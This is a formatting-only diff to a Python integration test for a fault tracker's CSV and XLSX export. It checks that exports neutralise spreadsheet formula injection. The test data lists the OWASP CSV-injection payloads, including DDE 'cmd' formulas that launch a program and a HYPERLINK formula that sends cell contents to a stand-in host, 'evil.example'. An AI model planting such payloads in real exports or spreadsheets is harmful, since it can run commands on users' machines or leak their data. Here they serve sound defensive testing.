@@ -17,13 +17,13 @@ from tests.integration.lifecycle_helpers import drive, new_fault
 # The OWASP "CSV Injection" payloads, and each of the starting characters it names.
 OWASP = [
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+9)*cmd|' /C calc'!A0",
     "\t=1+2",
     "\r=1+2",
-    "=1+2\";=1+2",
+    '=1+2";=1+2',
     "'=already quoted",
 ]
 
@@ -46,7 +46,10 @@ def read_xlsx(body: bytes) -> list[list[object]]:
 def test_the_table_has_the_template_headers_one_row_a_fault_and_local_times(client, staff):
     number = new_fault(client, staff["agent"], symptom="支付后订单仍显示未支付", reporter_id="u-12345678")
     rid = client.post("/api/v1/reports", json=a_report(reporter_id="u2", channel="web")).json()["report"]["id"]
-    assert client.post(f"/api/v1/faults/{number}/reports", json={"report_ids": [rid]}, headers=staff["agent"]).status_code == 200
+    assert (
+        client.post(f"/api/v1/faults/{number}/reports", json={"report_ids": [rid]}, headers=staff["agent"]).status_code
+        == 200
+    )
     res = client.get("/api/v1/faults/export?format=csv", headers=staff["pm"])
     assert res.status_code == 200, res.text
     assert res.headers["content-type"].startswith("text/csv")
@@ -169,6 +172,6 @@ def test_export_this_view_carries_the_queue_filters_and_the_exports_page_polls(c
     assert 'hx-trigger="every 2s"' in page.text and "排队中" in page.text  # polls while a job waits
     common_exports.run_next_export_job(wiring.desk)
     done = client.get("/exports/rows", headers=cookie)
-    assert f'/exports/{res.json()["id"]}/file' in done.text and "hx-trigger" not in done.text
-    file = client.get(f'/exports/{res.json()["id"]}/file', headers=cookie)
+    assert f"/exports/{res.json()['id']}/file" in done.text and "hx-trigger" not in done.text
+    file = client.get(f"/exports/{res.json()['id']}/file", headers=cookie)
     assert file.status_code == 200 and len(read_xlsx(file.content)) == 3
